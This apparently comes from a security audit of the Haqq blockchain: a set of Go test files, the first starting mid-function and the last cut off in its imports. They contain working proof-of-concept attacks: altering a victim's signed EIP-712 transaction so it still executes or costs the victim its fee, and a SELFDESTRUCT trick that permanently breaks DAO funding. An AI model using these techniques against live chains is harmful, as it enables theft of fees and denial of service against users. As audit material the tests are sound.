		haqqChain.SenderAccount.GetAddress().String(), otherChain.SenderAccount.GetAddress().String(),
		otherChain.GetTimeoutHeight(), 0, "",
	)

	sign := func(msg sdk.Msg) []byte {
		fee := sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, haqqibctesting.DefaultFeeAmt))
		tx, err := simtestutil.GenSignedMockTx(
			rand.New(rand.NewSource(1)), //nolint:gosec
			haqqChain.TxConfig, []sdk.Msg{msg}, fee, simtestutil.DefaultGenTxGas, haqqChain.ChainID,
			[]uint64{haqqChain.SenderAccount.GetAccountNumber()}, []uint64{haqqChain.SenderAccount.GetSequence()},
			haqqChain.SenderPrivKey,
		)
		require.NoError(t, err)
		bz, err := haqqChain.TxConfig.TxEncoder()(tx)
		require.NoError(t, err)
		return bz
	}
	// the sender is the genesis account number 0, so the signatures below are also valid for a node that
	// verifies them in its "genesis" mode
	require.Equal(t, uint64(0), haqqChain.SenderAccount.GetAccountNumber())

	// the restart: a second application on the database of the Haqq chain
	restarted := newApp(haqqChain.ChainID, dbs[haqqChain.ChainID])
	infoRunning := running.Info(abci.RequestInfo{})
	infoRestarted := restarted.Info(abci.RequestInfo{})
	require.Equal(t, infoRunning.LastBlockHeight, infoRestarted.LastBlockHeight)
	require.Equal(t, infoRunning.LastBlockAppHash, infoRestarted.LastBlockAppHash)
	t.Logf("both nodes report height %d", infoRestarted.LastBlockHeight)

	// 1. gas estimation of an IBC transfer
	txTransfer := sign(transferOut)
	gasRunning, _, errRunning := running.Simulate(txTransfer)
	gasRestarted, _, errRestarted := restarted.Simulate(txTransfer)
	t.Logf("simulate MsgTransfer\n   running  : gas used %d, err %v\n   restarted: gas used %d, err %v",
		gasRunning.GasUsed, errRunning, gasRestarted.GasUsed, errRestarted)
	require.NoError(t, errRunning, "the node that never stopped estimates the transfer")
	assert.NoError(t, errRestarted, "the restarted node must estimate the same transfer")

	// 2. mempool admission of a relayer transaction
	txRecv := sign(recvMsg)
	checkRestarted := restarted.CheckTx(abci.RequestCheckTx{Tx: txRecv, Type: abci.CheckTxType_New})
	checkRunning := running.CheckTx(abci.RequestCheckTx{Tx: txRecv, Type: abci.CheckTxType_New})
	t.Logf("check MsgRecvPacket\n   running  : code %d %s\n   restarted: code %d %s",
		checkRunning.Code, checkRunning.Log, checkRestarted.Code, checkRestarted.Log)
	require.Equal(t, uint32(0), checkRunning.Code, "the node that never stopped admits the relayer transaction")
	assert.Equalf(t, checkRunning.Code, checkRestarted.Code,
		"the restarted node answers CheckTx differently: %s", checkRestarted.Log)
}
