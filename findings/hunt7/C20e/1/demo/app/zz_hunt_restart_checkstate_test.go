package app_test

import (
	"encoding/json"
	"math/big"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	"github.com/cosmos/cosmos-sdk/client"
	clienttx "github.com/cosmos/cosmos-sdk/client/tx"
	cryptotypes "github.com/cosmos/cosmos-sdk/crypto/types"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/cosmos/ibc-go/v7/testing/mock"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

const zzChainID = utils.MainNetChainID + "-1"

// zzNode is everything the scenario needs from the node that never stopped.
type zzNode struct {
	db      dbm.DB
	app     *app.Haqq
	valAddr []byte
	txCfg   client.TxConfig

	plainAddr sdk.AccAddress // account number 1
	plainKey  cryptotypes.PrivKey
	zeroAddr  sdk.AccAddress // account number 0
	zeroKey   cryptotypes.PrivKey
	vestAddr  sdk.AccAddress // account number 2: clawback vesting account whose schedules ended long ago
	vestKey   cryptotypes.PrivKey
	thirdAddr sdk.AccAddress // account number 3
	thirdKey  cryptotypes.PrivKey
}

func zzNewApp(db dbm.DB) *app.Haqq {
	return app.NewHaqq(
		log.NewNopLogger(), db, nil, true, map[int64]bool{},
		app.DefaultNodeHome, 0,
		encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(zzChainID),
	)
}

// zzStartChain builds a chain on a database and commits `blocks` blocks through the ABCI interface.
func zzStartChain(t *testing.T, blocks int64) *zzNode {
	t.Helper()

	genesisTime := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

	privVal := mock.NewPV()
	pubKey, err := privVal.GetPubKey()
	require.NoError(t, err)
	validator := tmtypes.NewValidator(pubKey, 1)
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{validator})

	n := &zzNode{db: dbm.NewMemDB()}
	n.zeroAddr, n.zeroKey = testutiltx.NewAccAddressAndKey()
	n.plainAddr, n.plainKey = testutiltx.NewAccAddressAndKey()
	n.vestAddr, n.vestKey = testutiltx.NewAccAddressAndKey()
	n.thirdAddr, n.thirdKey = testutiltx.NewAccAddressAndKey()
	n.valAddr = validator.Address.Bytes()

	rich := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1000, 18)))

	// a clawback vesting account: 1000 ISLM granted two years before genesis, locked for one hour and
	// vested after one hour, i.e. everything has been vested and unlocked for years
	vestStart := genesisTime.Add(-2 * 365 * 24 * time.Hour)
	period := sdkvesting.Periods{{Length: 3600, Amount: rich}}
	vestAcc := vestingtypes.NewClawbackVestingAccount(
		authtypes.NewBaseAccount(n.vestAddr, nil, 2, 0),
		n.zeroAddr, rich, vestStart, period, period, nil,
	)

	genAccs := []authtypes.GenesisAccount{
		authtypes.NewBaseAccount(n.zeroAddr, nil, 0, 0),
		authtypes.NewBaseAccount(n.plainAddr, nil, 1, 0),
		vestAcc,
		authtypes.NewBaseAccount(n.thirdAddr, nil, 3, 0),
	}
	balances := []banktypes.Balance{
		{Address: n.zeroAddr.String(), Coins: rich},
		{Address: n.plainAddr.String(), Coins: rich},
		{Address: n.vestAddr.String(), Coins: rich},
		{Address: n.thirdAddr.String(), Coins: rich},
	}

	n.app = zzNewApp(n.db)
	n.txCfg = encoding.MakeConfig(app.ModuleBasics).TxConfig

	genesisState := app.NewDefaultGenesisState()
	genesisState = app.GenesisStateWithValSet(n.app, genesisState, valSet, genAccs, balances...)
	stateBytes, err := json.MarshalIndent(genesisState, "", " ")
	require.NoError(t, err)

	n.app.InitChain(abci.RequestInitChain{
		ChainId:         zzChainID,
		Time:            genesisTime,
		Validators:      []abci.ValidatorUpdate{},
		ConsensusParams: app.DefaultConsensusParams,
		AppStateBytes:   stateBytes,
	})

	for h := int64(1); h <= blocks; h++ {
		n.app.BeginBlock(abci.RequestBeginBlock{Header: tmproto.Header{
			ChainID:         zzChainID,
			Height:          h,
			Time:            genesisTime.Add(time.Duration(h) * 5 * time.Second),
			ProposerAddress: n.valAddr,
			AppHash:         n.app.LastCommitID().Hash,
		}})
		n.app.EndBlock(abci.RequestEndBlock{Height: h})
		n.app.Commit()
	}

	return n
}

// zzBankSend returns the bytes of a signed MsgSend of 1 aISLM; the signature covers accNum.
func (n *zzNode) zzBankSend(t *testing.T, key cryptotypes.PrivKey, from sdk.AccAddress, accNum, seq, gas uint64, fee sdkmath.Int) []byte {
	t.Helper()

	b := n.txCfg.NewTxBuilder()
	require.NoError(t, b.SetMsgs(banktypes.NewMsgSend(from, n.zeroAddr, sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 1)))))
	b.SetGasLimit(gas)
	b.SetFeeAmount(sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, fee)))

	mode := signing.SignMode_SIGN_MODE_DIRECT
	require.NoError(t, b.SetSignatures(signing.SignatureV2{
		PubKey:   key.PubKey(),
		Data:     &signing.SingleSignatureData{SignMode: mode},
		Sequence: seq,
	}))
	sig, err := clienttx.SignWithPrivKey(
		mode,
		authsigning.SignerData{ChainID: zzChainID, AccountNumber: accNum, Sequence: seq},
		b, key, n.txCfg, seq,
	)
	require.NoError(t, err)
	require.NoError(t, b.SetSignatures(sig))

	bz, err := n.txCfg.TxEncoder()(b.GetTx())
	require.NoError(t, err)
	return bz
}

// zzEthTransfer returns the bytes of a signed Ethereum transfer of 1 aISLM.
func (n *zzNode) zzEthTransfer(t *testing.T, key cryptotypes.PrivKey, from sdk.AccAddress, nonce uint64, feeCap *big.Int) []byte {
	t.Helper()

	to := common.BytesToAddress(n.zeroAddr)
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:   big.NewInt(11235),
		Nonce:     nonce,
		To:        &to,
		Amount:    big.NewInt(1),
		GasLimit:  21000,
		GasFeeCap: feeCap,
		GasTipCap: big.NewInt(0),
		Accesses:  &ethtypes.AccessList{},
	})
	msg.From = common.BytesToAddress(from).Hex()
	require.NoError(t, msg.Sign(ethtypes.LatestSignerForChainID(big.NewInt(11235)), testutiltx.NewSigner(key)))

	tx, err := msg.BuildTx(n.txCfg.NewTxBuilder(), utils.BaseDenom)
	require.NoError(t, err)
	bz, err := n.txCfg.TxEncoder()(tx)
	require.NoError(t, err)
	return bz
}

// TestZZHuntRestartedNodeChecksTransactionsLikeTheRunningOne stops nothing and changes no state: it commits a
// few blocks on a database, opens a second application on that database (what a restart at the block
// boundary does) and hands both applications the same transaction bytes.
//
// Property C20: the restarted node reports the same height and app hash and behaves exactly like the node
// that never stopped.
func TestZZHuntRestartedNodeChecksTransactionsLikeTheRunningOne(t *testing.T) {
	running := zzStartChain(t, 3)

	restarted := zzNewApp(running.db)

	// start-up report: identical
	infoRunning := running.app.Info(abci.RequestInfo{})
	infoRestarted := restarted.Info(abci.RequestInfo{})
	require.Equal(t, infoRunning.LastBlockHeight, infoRestarted.LastBlockHeight)
	require.Equal(t, infoRunning.LastBlockAppHash, infoRestarted.LastBlockAppHash)
	require.Equal(t, int64(3), infoRestarted.LastBlockHeight)

	ctx := running.app.BaseApp.NewContext(true, tmproto.Header{Height: running.app.LastBlockHeight(), ChainID: zzChainID})
	baseFee := running.app.FeeMarketKeeper.GetBaseFee(ctx)
	require.True(t, baseFee.Sign() > 0, "the chain has a base fee")
	t.Logf("height %d, base fee %s", infoRunning.LastBlockHeight, baseFee)

	plainAccNum := running.app.AccountKeeper.GetAccount(ctx, running.plainAddr).GetAccountNumber()
	require.Equal(t, uint64(1), plainAccNum)
	zeroAccNum := running.app.AccountKeeper.GetAccount(ctx, running.zeroAddr).GetAccountNumber()
	require.Equal(t, uint64(0), zeroAccNum)
	require.Equal(t, uint64(3), running.app.AccountKeeper.GetAccount(ctx, running.thirdAddr).GetAccountNumber())

	gas := uint64(200_000)
	goodFee := sdkmath.NewIntFromBigInt(baseFee).MulRaw(int64(gas))

	cases := []struct {
		name string
		tx   []byte
	}{
		{
			// correctly signed (account number 1), fee at the base fee
			name: "cosmos MsgSend signed with the sender's account number",
			tx:   running.zzBankSend(t, running.plainKey, running.plainAddr, plainAccNum, 0, gas, goodFee),
		},
		{
			// signed for account number 0 although the sender's account number is 3
			name: "cosmos MsgSend signed with account number 0 by account number 3",
			tx:   running.zzBankSend(t, running.thirdKey, running.thirdAddr, 0, 0, gas, goodFee),
		},
		{
			// gas price 1 aISLM, a billionth of the base fee
			name: "cosmos MsgSend paying 1 aISLM per gas, far below the base fee",
			tx:   running.zzBankSend(t, running.zeroKey, running.zeroAddr, zeroAccNum, 0, gas, sdkmath.NewIntFromUint64(gas)),
		},
		{
			// everything this account holds vested and was unlocked years before the chain started
			name: "ethereum transfer of 1 aISLM by a fully vested, fully unlocked clawback vesting account",
			tx:   running.zzEthTransfer(t, running.vestKey, running.vestAddr, 0, new(big.Int).Mul(baseFee, big.NewInt(2))),
		},
	}

	for _, tc := range cases {
		resRestarted := restarted.CheckTx(abci.RequestCheckTx{Tx: tc.tx, Type: abci.CheckTxType_New})
		resRunning := running.app.CheckTx(abci.RequestCheckTx{Tx: tc.tx, Type: abci.CheckTxType_New})

		t.Logf("%s\n   running  : code %d %s\n   restarted: code %d %s",
			tc.name, resRunning.Code, resRunning.Log, resRestarted.Code, resRestarted.Log)

		assert.Equalf(t, resRunning.Code, resRestarted.Code,
			"%s: the restarted node answers CheckTx differently from the node that never stopped\n running  : code %d %q\n restarted: code %d %q",
			tc.name, resRunning.Code, resRunning.Log, resRestarted.Code, resRestarted.Log)
	}
}
