package ante_test

import (
	"time"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
)

// zzStuffBody appends an unknown protobuf field to the TxBody bytes of an encoded transaction
// and returns the re-encoded transaction. Nothing else of the transaction is touched: same
// AuthInfo bytes, same signatures. Field number 1024 has bit 11 set, which the SDK's decoder
// calls "non-critical" and lets through in a TxBody; the content is n arbitrary bytes.
func zzStuffBody(s *AnteTestSuite, txBz []byte, n int) []byte {
	var raw txtypes.TxRaw
	s.Require().NoError(raw.Unmarshal(txBz))

	junk := make([]byte, n)
	for i := range junk {
		junk[i] = 0x42
	}
	// tag = (1024 << 3) | 2 (length-delimited) = 8194 -> varint 0x82 0x40
	ext := []byte{0x82, 0x40}
	// varint length
	l := uint64(n)
	for l >= 0x80 {
		ext = append(ext, byte(l)|0x80)
		l >>= 7
	}
	ext = append(ext, byte(l))
	ext = append(ext, junk...)

	raw.BodyBytes = append(append([]byte{}, raw.BodyBytes...), ext...)
	out, err := raw.Marshal()
	s.Require().NoError(err)
	return out
}

// zzRepeatMemo appends the TxBody's own memo field (number 2) twice to the body bytes: once with n arbitrary bytes
// and then once more, empty. For a protobuf decoder the last occurrence of a scalar field wins, so the decoded
// body is the one the victim signed (empty memo) and no field is unknown.
func zzRepeatMemo(s *AnteTestSuite, txBz []byte, n int) []byte {
	var raw txtypes.TxRaw
	s.Require().NoError(raw.Unmarshal(txBz))

	ext := []byte{0x12} // (2 << 3) | 2
	l := uint64(n)
	for l >= 0x80 {
		ext = append(ext, byte(l)|0x80)
		l >>= 7
	}
	ext = append(ext, byte(l))
	for i := 0; i < n; i++ {
		ext = append(ext, 'x')
	}
	ext = append(ext, 0x12, 0x00)

	raw.BodyBytes = append(append([]byte{}, raw.BodyBytes...), ext...)
	out, err := raw.Marshal()
	s.Require().NoError(err)
	return out
}

// zzSignedSend returns the encoded bytes of a bank send of the victim, signed by the victim with an
// EIP-712 signature (what a MetaMask user produces), built with the repository's own helper.
func zzSignedSend(s *AnteTestSuite, priv *ethsecp256k1.PrivKey, from, to sdk.AccAddress, amount sdkmath.Int, gas uint64, gasPrice sdkmath.Int) []byte {
	msg := &banktypes.MsgSend{
		FromAddress: from.String(),
		ToAddress:   to.String(),
		Amount:      sdk.Coins{sdk.NewCoin(utils.BaseDenom, amount)},
	}
	fees := sdk.Coins{sdk.NewCoin(utils.BaseDenom, gasPrice.MulRaw(int64(gas)))}
	tx, err := utiltx.CreateEIP712CosmosTx(s.ctx, s.app, utiltx.EIP712TxArgs{
		CosmosTxArgs: utiltx.CosmosTxArgs{
			TxCfg:   s.clientCtx.TxConfig,
			Priv:    priv,
			ChainID: s.ctx.ChainID(),
			Gas:     gas,
			Fees:    fees,
			Msgs:    []sdk.Msg{msg},
		},
		UseLegacyExtension: false, // plain Cosmos route: the signature is checked by the account's public key
		UseLegacyTypedData: false,
	})
	s.Require().NoError(err)

	// the helper signs in SIGN_MODE_DIRECT: the sign doc is (body bytes, auth info bytes, chain id, account number)
	sigs, err := tx.(authsigning.SigVerifiableTx).GetSignaturesV2()
	s.Require().NoError(err)
	s.Require().Equal(signing.SignMode_SIGN_MODE_DIRECT, sigs[0].Data.(*signing.SingleSignatureData).SignMode)

	bz, err := s.clientCtx.TxConfig.TxEncoder()(tx)
	s.Require().NoError(err)
	return bz
}

// zzHuntSetup funds a victim and returns it with its key, a receiver and the gas price to use.
func zzHuntSetup(s *AnteTestSuite) (victim sdk.AccAddress, priv *ethsecp256k1.PrivKey, receiver sdk.AccAddress, gasPrice sdkmath.Int) {
	s.SetupTest()

	victim, priv = utiltx.NewAccAddressAndKey()
	receiver, _ = utiltx.NewAccAddressAndKey()
	s.Require().NoError(testutil.FundAccount(s.ctx, s.app.BankKeeper, victim, sdk.Coins{sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1e18))}))
	zzHuntCommit(s)

	gasPrice = sdkmath.NewIntFromBigInt(s.app.FeeMarketKeeper.GetBaseFee(s.ctx))
	if !gasPrice.IsPositive() {
		gasPrice = sdkmath.NewInt(1_000_000_000)
	}
	return victim, priv, receiver, gasPrice
}

func zzHuntCommit(s *AnteTestSuite) {
	var err error
	s.ctx, err = testutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

// Property C03: a transaction is executed on behalf of an account only if it carries a valid signature of that
// account over exactly the transaction content; a transaction that was changed after signing is rejected.
//
// Somebody else appends 100 bytes to the body of the victim's signed transaction (same messages, same fee, same
// signature, another transaction hash). The changed transaction must be refused.
func (s *AnteTestSuite) TestZZHuntEIP712DirectChangedBodyBytesAreExecuted() {
	for name, change := range map[string]func(*AnteTestSuite, []byte, int) []byte{
		"unknown field 1024 appended to the body":                 zzStuffBody,
		"memo field repeated in the body, last occurrence empty": zzRepeatMemo,
	} {
		s.Run(name, func() {
			victim, priv, receiver, gasPrice := zzHuntSetup(s)
			amount := sdkmath.NewInt(1e14)

			txBz := zzSignedSend(s, priv, victim, receiver, amount, 400_000, gasPrice)
			changed := change(s, txBz, 100)
			s.Require().NotEqual(txBz, changed)

			seqBefore := s.app.AccountKeeper.GetAccount(s.ctx, victim).GetSequence()
			recvBefore := s.app.BankKeeper.GetBalance(s.ctx, receiver, utils.BaseDenom).Amount

			res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: changed})
			seqAfter := s.app.AccountKeeper.GetAccount(s.ctx, victim).GetSequence()
			recvAfter := s.app.BankKeeper.GetBalance(s.ctx, receiver, utils.BaseDenom).Amount
			s.T().Logf("signed tx %d bytes; delivered tx %d bytes: code %d, victim sequence %d -> %d, receiver %s -> %s",
				len(txBz), len(changed), res.Code, seqBefore, seqAfter, recvBefore, recvAfter)

			s.Require().NotEqual(uint32(0), res.Code, "a transaction whose body bytes were changed after signing was executed")
			s.Require().Equal(seqBefore, seqAfter)
		})
	}
}

// Control (passes): the very same change is refused when the victim's signature is an ordinary one over the
// SIGN_MODE_DIRECT sign doc, and - for the unknown field - when the EIP-712 signature travels in
// SIGN_MODE_LEGACY_AMINO_JSON, where the SDK refuses the transaction ("transaction malleability issue").
func (s *AnteTestSuite) TestZZHuntControlOtherSignModesRefuseChangedBodyBytes() {
	victim, priv, receiver, gasPrice := zzHuntSetup(s)
	msg := &banktypes.MsgSend{
		FromAddress: victim.String(),
		ToAddress:   receiver.String(),
		Amount:      sdk.Coins{sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1e14))},
	}

	// ordinary signature, SIGN_MODE_DIRECT
	tx, err := utiltx.PrepareCosmosTx(s.ctx, s.app, utiltx.CosmosTxArgs{
		TxCfg: s.clientCtx.TxConfig, Priv: priv, ChainID: s.ctx.ChainID(), Gas: 400_000, GasPrice: &gasPrice, Msgs: []sdk.Msg{msg},
	}, signing.SignMode_SIGN_MODE_DIRECT)
	s.Require().NoError(err)
	txBz, err := s.clientCtx.TxConfig.TxEncoder()(tx)
	s.Require().NoError(err)
	for _, changed := range [][]byte{zzStuffBody(s, txBz, 100), zzRepeatMemo(s, txBz, 100)} {
		res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: changed})
		s.T().Logf("ordinary signature, changed body: code %d, log %q", res.Code, res.Log)
		s.Require().Equal(uint32(4), res.Code, res.Log) // ErrUnauthorized: signature verification failed
	}

	// EIP-712 signature, SIGN_MODE_LEGACY_AMINO_JSON
	txBz = zzSignedSend(s, priv, victim, receiver, sdkmath.NewInt(1e14), 400_000, gasPrice)
	txBz = zzAsAminoJSON(s, txBz)
	res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: zzStuffBody(s, txBz, 100)})
	s.T().Logf("EIP-712 signature in amino-JSON mode, unknown field in body: code %d, log %q", res.Code, res.Log)
	s.Require().NotEqual(uint32(0), res.Code)
}

// zzAsAminoJSON rewrites the signer info of an encoded transaction from SIGN_MODE_DIRECT to
// SIGN_MODE_LEGACY_AMINO_JSON (the EIP-712 typed data is the same for both).
func zzAsAminoJSON(s *AnteTestSuite, txBz []byte) []byte {
	var raw txtypes.TxRaw
	s.Require().NoError(raw.Unmarshal(txBz))
	var authInfo txtypes.AuthInfo
	s.Require().NoError(authInfo.Unmarshal(raw.AuthInfoBytes))
	authInfo.SignerInfos[0].ModeInfo = &txtypes.ModeInfo{Sum: &txtypes.ModeInfo_Single_{Single: &txtypes.ModeInfo_Single{Mode: signing.SignMode_SIGN_MODE_LEGACY_AMINO_JSON}}}
	var err error
	raw.AuthInfoBytes, err = authInfo.Marshal()
	s.Require().NoError(err)
	out, err := raw.Marshal()
	s.Require().NoError(err)
	return out
}

// The same change, sized by the attacker: the ante handler charges 10 gas per transaction byte against the gas
// limit the victim signed, so with enough appended bytes the victim's send runs out of gas - after the fee was
// taken and the sequence number used.
func (s *AnteTestSuite) TestZZHuntEIP712DirectChangedBodyBytesCostTheVictimTheFee() {
	victim, priv, receiver, gasPrice := zzHuntSetup(s)
	amount := sdkmath.NewInt(1e14)

	// two untouched sends: the first creates the receiver's account and stores the victim's public key,
	// the second tells what such a send costs from then on
	var gasNeeded uint64
	for i := 0; i < 2; i++ {
		txBz := zzSignedSend(s, priv, victim, receiver, amount, 400_000, gasPrice)
		res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: txBz})
		s.Require().Equal(uint32(0), res.Code, res.Log)
		gasNeeded = uint64(res.GasUsed)
		s.T().Logf("untouched send %d: %d bytes, code %d, gas used %d", i+1, len(txBz), res.Code, res.GasUsed)
		zzHuntCommit(s)
	}

	// the victim signs the next send with a sensible gas limit: what the last one used plus 30%
	gasLimit := gasNeeded * 13 / 10
	fee := gasPrice.MulRaw(int64(gasLimit))
	txBz := zzSignedSend(s, priv, victim, receiver, amount, gasLimit, gasPrice)

	seqBefore := s.app.AccountKeeper.GetAccount(s.ctx, victim).GetSequence()
	balBefore := s.app.BankKeeper.GetBalance(s.ctx, victim, utils.BaseDenom).Amount
	recvBefore := s.app.BankKeeper.GetBalance(s.ctx, receiver, utils.BaseDenom).Amount

	// somebody who sees it in the mempool appends just enough bytes to use up the margin
	stuffed := zzStuffBody(s, txBz, int(gasLimit-gasNeeded)/10+200)

	res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: stuffed})
	s.T().Logf("signed tx %d bytes, gas limit %d, fee %s; delivered tx %d bytes: code %d (%s), gas wanted %d used %d, log %q",
		len(txBz), gasLimit, fee, len(stuffed), res.Code, res.Codespace, res.GasWanted, res.GasUsed, res.Log)

	seqAfter := s.app.AccountKeeper.GetAccount(s.ctx, victim).GetSequence()
	balAfter := s.app.BankKeeper.GetBalance(s.ctx, victim, utils.BaseDenom).Amount
	recvAfter := s.app.BankKeeper.GetBalance(s.ctx, receiver, utils.BaseDenom).Amount
	s.T().Logf("victim: sequence %d -> %d, balance %s -> %s (paid %s); receiver %s -> %s",
		seqBefore, seqAfter, balBefore, balAfter, balBefore.Sub(balAfter), recvBefore, recvAfter)

	// the victim did not sign these bytes: nothing may happen to its account
	s.Require().Equal(seqBefore, seqAfter, "the changed transaction used the victim's sequence number")
	s.Require().Equal(balBefore.String(), balAfter.String(), "the changed transaction was charged to the victim")
}
