package keeper_test

import (
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	"github.com/haqq-network/haqq/x/ucdao/types"
)

// On a chain whose DAO has not been funded yet the ucdao module account does not exist
// (InitGenesis never creates it). A zero-value SELFDESTRUCT naming the module address as
// beneficiary makes the EVM StateDB commit a plain EthAccount there. From then on every
// MsgFund panics in GetModuleAccountAndPermissions ("account is not a module account"):
// funding no longer credits the depositor with what he deposits - for anybody, for ever.
func TestZZHuntFundAfterEvmTouchOfModuleAddress(t *testing.T) {
	suite := new(KeeperTestSuite)
	suite.SetT(t)
	s = suite
	suite.SetupTest()

	daoAddr := authtypes.NewModuleAddress(types.ModuleName)
	hundred := sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(100, 18))
	require.NoError(t, testutil.FundAccount(suite.ctx, suite.app.BankKeeper, suite.address, sdk.NewCoins(hundred.Add(hundred))))
	suite.Commit()

	// a fresh chain, nobody has funded the DAO yet: on the unchanged tree there is no account at the module address
	t.Logf("account at the ucdao module address after genesis: %T", suite.app.AccountKeeper.GetAccount(suite.ctx, daoAddr))

	// Any user: contract creation whose init code is PUSH20 <ucdao module address> SELFDESTRUCT, value 0.
	initCode := append([]byte{0x73}, daoAddr.Bytes()...)
	initCode = append(initCode, 0xff)
	from := common.BytesToAddress(suite.priv.PubKey().Address().Bytes())
	msgEthereumTx := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:   suite.app.EvmKeeper.ChainID(),
		Nonce:     suite.app.EvmKeeper.GetNonce(suite.ctx, from),
		GasLimit:  200000,
		GasFeeCap: suite.app.FeeMarketKeeper.GetBaseFee(suite.ctx),
		GasTipCap: big.NewInt(1),
		Input:     initCode,
		Accesses:  &ethtypes.AccessList{},
	})
	msgEthereumTx.From = from.String()
	_, err := testutil.DeliverEthTx(suite.app, suite.priv, msgEthereumTx)
	require.NoError(t, err, "the zero-value selfdestruct transaction is accepted")
	suite.Commit()

	// no coin reached the module address ...
	require.True(t, suite.app.BankKeeper.GetAllBalances(suite.ctx, daoAddr).IsZero())
	if acc := suite.app.AccountKeeper.GetAccount(suite.ctx, daoAddr); acc != nil {
		_, isModule := acc.(authtypes.ModuleAccountI)
		t.Logf("account now stored at the ucdao module address: %T (module account: %v)", acc, isModule)
	}

	// ... and now an honest depositor funds the DAO with 100 ISLM
	gasPrice := sdkmath.NewInt(1000000000)
	_, err = testutil.DeliverTx(suite.ctx, suite.app, suite.priv, &gasPrice, signing.SignMode_SIGN_MODE_DIRECT,
		types.NewMsgFund(sdk.NewCoins(hundred), suite.address))
	suite.Commit()

	require.NoError(t, err, "MsgFund of 100 ISLM by a solvent depositor must succeed")
	require.Equal(t, hundred.String(), suite.app.DaoKeeper.GetBalance(suite.ctx, suite.address, utils.BaseDenom).String(), "depositor's DAO share")
	require.Equal(t, hundred.String(), suite.app.DaoKeeper.GetTotalBalanceOf(suite.ctx, utils.BaseDenom).String(), "recorded DAO total")
	require.Equal(t, hundred.String(), suite.app.BankKeeper.GetBalance(suite.ctx, daoAddr, utils.BaseDenom).String(), "coins held by the DAO module account")
}
