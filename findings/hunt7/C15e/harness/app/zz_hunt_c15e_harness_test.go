package app

import (
	"encoding/json"
	"fmt"
	"math/big"
	"math/rand"
	"os"
	"strconv"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	cryptocodec "github.com/cosmos/cosmos-sdk/crypto/codec"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/module"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	govv1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1"
	slashingtypes "github.com/cosmos/cosmos-sdk/x/slashing/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/cosmos/ibc-go/v7/testing/mock"
